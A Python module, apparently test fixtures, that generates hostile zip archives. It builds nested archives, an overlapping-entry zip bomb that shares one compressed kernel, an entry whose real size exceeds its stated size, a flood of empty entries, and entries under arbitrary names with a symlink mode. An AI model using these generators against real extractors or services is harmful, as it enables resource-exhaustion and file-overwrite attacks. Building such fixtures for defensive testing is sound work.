"""Zip archives that are made to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

LINK = 0o120777 << 16


def archive(*files: tuple[str, bytes], mode: int = 0) -> bytes:
    """Pack files, in their order, under whatever names."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files:
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode
            entry.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(entry, data)
    return stream.getvalue()


def nested(levels: int, core: bytes) -> bytes:
    """Pack a file into an archive, again and again."""
    data = archive(("plan.txt", core))
    for _ in range(levels):
        data = archive(("inner.zip", data))
    return data


def written(entries: Iterable[tuple[str, int, bytes, int, int]], kernel: bytes) -> bytes:
    """Write a zip by hand: `kernel`, then a list of files wherever they say that they begin.

    Args:
        entries: name, start, packed bytes by which the list speaks, size and checksum that it states.
        kernel: what stands in front of the list.
    """
    records = []
    for name, start, packed, size, checksum in entries:
        encoded = name.encode()
        record = struct.pack(
            "<4sHHHHHHLLLHHHHHLL",
            b"PK\x01\x02", 20, 20, 0x800, zipfile.ZIP_DEFLATED, 0, 0x21,
            checksum, len(packed), size, len(encoded), 0, 0, 0, 0, 0, start,
        )  # fmt: skip
        records.append(record + encoded)
    listed = b"".join(records)
    count = len(records) & 0xFFFF  # as large as the field is; `zipfile` goes by the bytes
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(listed), len(kernel), 0)
    return kernel + listed + end


def _packed(data: bytes) -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return made.compress(data) + made.flush()


def _headed(name: str, data: bytes, packed: bytes) -> bytes:
    """Put the header of a file in front of its packed bytes."""
    encoded = name.encode()
    header = struct.pack(
        "<4sHHHHHLLLHH",
        b"PK\x03\x04", 20, 0x800, zipfile.ZIP_DEFLATED, 0, 0x21,
        zlib.crc32(data), len(packed), len(data), len(encoded), 0,
    )  # fmt: skip
    return header + encoded + packed


def overlapping(count: int, size: int) -> bytes:
    """List one packed file many times: the bomb that shares its kernel."""
    data = bytes(size)
    packed = _packed(data)
    kernel = _headed("0.txt", data, packed)
    return written(((f"{at}.txt", 0, packed, size, zlib.crc32(data)) for at in range(count)), kernel)


def understated(stated: int, size: int) -> bytes:
    """Pack a file that holds far more than the list says."""
    data = bytes(size)
    packed = _packed(data)
    return written([("0.txt", 0, packed, stated, zlib.crc32(data[:stated]))], _headed("0.txt", data, packed))


def crowded(count: int) -> bytes:
    """List empty files without end."""
    empty = _packed(b"")
    kernel = _headed("a", b"", empty)
    return written((("a", 0, empty, 0, 0) for _ in range(count)), kernel)
